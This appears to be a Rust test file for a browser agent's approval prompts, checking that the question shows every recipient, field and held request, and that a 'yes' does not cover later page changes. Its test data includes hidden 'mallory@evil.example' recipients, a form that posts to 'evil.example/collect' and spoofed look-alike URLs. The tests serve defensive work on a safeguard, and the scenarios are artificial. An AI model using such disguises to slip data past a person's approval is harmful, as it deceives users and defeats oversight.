//! A question shows what takes effect, and a yes is for that.

use super::{SHOP, Try, json_of, pressed};
use edith_page::raw::{RawOption, state};
use edith_protocol::AskKind;
use edith_testkit::FakePage;

/// The question that is asked first, with all it shows.
fn question(one: &Try) -> String {
    let played = one.play();
    let Some(ask) = played.asks.first() else { return format!("nothing is asked: {:?}", played.world.browser.done()) };
    let AskKind::Approval(shown) = &ask.kind else { panic!("{ask:?}") };
    format!("{}\n{}\n{:?}", ask.text, shown.action.says, shown.values)
}

fn field(page: FakePage, form: u32, name: &str, value: &str) -> FakePage {
    page.node("input", "textbox", name, |node| {
        node.form = form;
        node.input_type = "text".into();
        node.value = Some(value.into());
    })
}

fn sends(page: FakePage) -> Try {
    Try::new("Send the letter at https://shop.example/").page(SHOP, page).opens(SHOP).clicks("BUTTON:Send mail")
}

#[test]
fn every_filled_field_of_what_is_sent_is_shown() {
    let mut missing = Vec::new();
    let mut check = |name: &str, page: FakePage, wanted: &[&str]| {
        let shown = question(&sends(page));
        for part in wanted {
            if !shown.contains(part) {
                missing.push(format!("{name}: {part} not in {shown}"));
            }
        }
    };
    let base = || FakePage::new("Mail").button("Log out");
    let to = "mallory@evil.example";
    check("no form", field(base(), 0, "To", to).button("Send mail"), &[to]);
    check("behind the button", field(base().button("Send mail"), 0, "To", to), &[to]);
    check(
        "two forms",
        field(field(base().form(SHOP, "post", "").form(SHOP, "post", "Send mail"), 1, "To", to), 2, "Text", "hello")
            .node("button", "button", "Send mail", |node| node.form = 2),
        &["hello", to],
    );
    check(
        "a form around the text alone",
        field(field(base().form(SHOP, "post", "Send mail"), 0, "To", to), 1, "Text", "hello").node(
            "button",
            "button",
            "Send mail",
            |node| node.form = 1,
        ),
        &["hello", to],
    );
    check("a chip", base().node("div", "option", to, |node| node.states = state::SELECTED).button("Send mail"), &[to]);
    check(
        "a tick",
        base()
            .node("input", "checkbox", "Copy to all of the company", |node| {
                node.input_type = "checkbox".into();
                node.states = state::CHECKED;
            })
            .button("Send mail"),
        &["Copy to all of the company"],
    );
    check(
        "a switch",
        base().node("button", "switch", "Publish it", |node| node.states = state::CHECKED).button("Send mail"),
        &["Publish it"],
    );
    check(
        "a list",
        base()
            .node("select", "combobox", "From", |node| {
                node.options =
                    vec![RawOption { label: "The boss".into(), states: state::SELECTED, ..RawOption::default() }];
                node.value = Some("The boss".into());
            })
            .button("Send mail"),
        &["The boss"],
    );
    check(
        "an editor",
        base()
            .node("div", "textbox", "Text", |node| {
                node.why = "editable".into();
                node.value = Some("Pay 500".into());
            })
            .button("Send mail"),
        &["Pay 500"],
    );
    check(
        "a file",
        base()
            .node("input", "", "Attachment", |node| {
                node.input_type = "file".into();
                node.field = edith_page::FieldKind::File;
                node.states = state::FILLED;
            })
            .button("Send mail"),
        &["Attachment"],
    );
    check(
        "twenty fields",
        (0..20)
            .fold(base(), |page, at| field(page, 0, &format!("Line {at}"), &format!("value {at}")))
            .button("Send mail"),
        &["value 0"],
    );
    let many = (0..60).fold(base(), |page, at| field(page, 0, &format!("Line {at}"), &format!("value {at}")));
    check("a recipient behind sixty fields", field(many, 0, "Bcc", to).button("Send mail"), &[to]);
    let long = format!("{}, {to}", "ada@shop.example, ".repeat(30));
    check("a recipient behind thirty", field(base(), 0, "To", &long).button("Send mail"), &[to]);
    check(
        "a recipient behind lines",
        field(base(), 0, "To", &format!("ada@shop.example{}{to}", "\n".repeat(80))).button("Send mail"),
        &[to],
    );
    check("a role in Japanese", field(base(), 0, "宛先", to).button("Send mail"), &[to]);
    println!("not shown: {missing:#?}");
    assert!(missing.is_empty(), "{}", missing.len());
}

#[test]
fn held_requests_are_all_shown_with_what_they_carry() {
    let mut page =
        pressed("Weiter", json_of("POST", "https://shop.example/x/1", r#"{"to":"mallory@evil.example","note":"hi"}"#));
    page = page.also_sends("Weiter", json_of("POST", "https://shop.example/x/2", r#"{"amount":500}"#));
    let shown = question(
        &Try::new("What does https://shop.example/ say?").page(SHOP, page).opens(SHOP).clicks("BUTTON:Weiter"),
    );
    let mut missing = Vec::new();
    for part in ["x/1", "mallory@evil.example", "x/2", "500"] {
        if !shown.contains(part) {
            missing.push(part);
        }
    }
    let deep =
        json_of("POST", "https://shop.example/x/1", r#"{"a":{"b":{"c":{"d":[{"cc":"mallory@evil.example"}]}}}}"#);
    let list = json_of("POST", "https://shop.example/x/1", &serde_json::json!({ "members": (0..80).map(|at| format!("m{at}@shop.example")).chain(["mallory@evil.example".to_owned()]).collect::<Vec<_>>() }).to_string());
    for (name, sent) in [("deep", deep), ("a long list", list)] {
        let shown = question(
            &Try::new("What does https://shop.example/ say?")
                .page(SHOP, pressed("Weiter", sent))
                .opens(SHOP)
                .clicks("BUTTON:Weiter"),
        );
        // What does not fit is counted.
        if !shown.contains("mallory@evil.example") && !shown.contains("21 more that are not shown") {
            println!("{name}: {shown}");
            missing.push(name);
        }
    }
    assert!(missing.is_empty(), "{missing:?} not in {shown}");
}

#[test]
fn an_address_is_shown_as_it_is_opened() {
    let mut wrong = Vec::new();
    for (address, wanted, unwanted) in [
        ("https://m\u{430}il.example/?d=QX7719KLM2", "xn--mil-6cd", "m\u{430}il"),
        ("https://evil.example\\@bank.example/?d=QX7719KLM2", "https://evil.example", "evil.example\\"),
        ("https://ev\u{200b}il.example/?d=QX7719KLM2", "xn--evil-w76a.example", "\u{200b}"),
        ("https://evil.example/\u{202e}moc.knab?d=QX7719KLM2", "evil.example", "\u{202e}"),
    ] {
        let one = Try::new("Read my mail at https://mail.example/")
            .page(super::MAIL, super::mail())
            .opens(super::MAIL)
            .opens(address);
        let shown = question(&one);
        if !shown.contains(wanted) || shown.contains(unwanted) {
            wrong.push(format!("{address}: {shown}"));
        }
    }
    assert!(wrong.is_empty(), "{wrong:#?}");
}

/// Each change between the question and the deed asks again, or does nothing.
#[test]
fn a_yes_is_for_what_was_shown_and_for_nothing_that_came_after() {
    use edith_protocol::{AnswerBody, Command};
    use edith_testkit::World;
    type Change = fn(&mut FakePage);
    let page = || {
        let page = FakePage::new("Mail").button("Send mail");
        let page = field(field(page, 0, "To", "ada@shop.example"), 0, "Text", "hello");
        let page = page.node("input", "checkbox", "Copy to all", |node| node.input_type = "checkbox".into());
        page.node("select", "combobox", "From", |node| {
            node.value = Some("Me".into());
            node.options = ["Me", "The boss"]
                .iter()
                .map(|label| RawOption {
                    label: (*label).into(),
                    states: if *label == "Me" { state::SELECTED } else { 0 },
                    ..RawOption::default()
                })
                .collect();
        })
    };
    let changes: [(&str, bool, Change); 9] = [
        ("nothing", true, |_| {}),
        ("another text elsewhere on the page", true, |page| page.text = "12:01".into()),
        ("the recipient", false, |page| page.nodes[1].value = Some("mallory@evil.example".into())),
        ("the text", false, |page| page.nodes[2].value = Some("pay 500".into())),
        ("the tick", false, |page| page.nodes[3].states |= state::CHECKED),
        ("the choice", false, |page| {
            page.nodes[4].value = Some("The boss".into());
            page.nodes[4].options[0].states = 0;
            page.nodes[4].options[1].states = state::SELECTED;
        }),
        ("a new field", false, |page| {
            let new = FakePage::new("").node("input", "textbox", "Bcc", |node| {
                node.node = 77;
                node.input_type = "text".into();
                node.value = Some("mallory@evil.example".into());
            });
            page.nodes.extend(new.nodes);
        }),
        ("the label of the recipient", false, |page| page.nodes[1].name = "Send later to".into()),
        ("a form around it", false, |page| {
            page.forms = FakePage::new("").form("https://evil.example/collect", "post", "Send mail").forms;
            page.nodes.iter_mut().for_each(|node| node.form = 1);
        }),
    ];
    let mut wrong = Vec::new();
    for (name, goes, change) in changes {
        let world = World::default();
        world.browser.add_page(SHOP, page());
        world.browser.open_in_front("about:blank");
        world.model.will([
            edith_testkit::Scripted::call("navigate", r#"{"url":"https://shop.example/"}"#),
            edith_testkit::Scripted::call("click", r#"{"uid":1}"#),
        ]);
        world.model.always(|_| edith_testkit::Scripted::complete("done"));
        let reply = world
            .send(Command::AgentRun {
                prompt: "Send the letter at https://shop.example/".into(),
                conversation_id: None,
                tab_id: None,
            })
            .unwrap();
        let Some(AnswerBody::Started { run_id, .. }) = reply.body else { panic!() };
        world.settle();
        let ask = world.events.ask().expect("a question");
        world.browser.change_page(SHOP, change);
        world.send(Command::AgentAnswer { run_id, ask_id: ask.ask_id, answer: "once".into() });
        world.settle();
        if world.browser.done().iter().any(|done| done.starts_with("click")) != goes {
            wrong.push(name);
        }
    }
    assert!(wrong.is_empty(), "{wrong:?}");
}
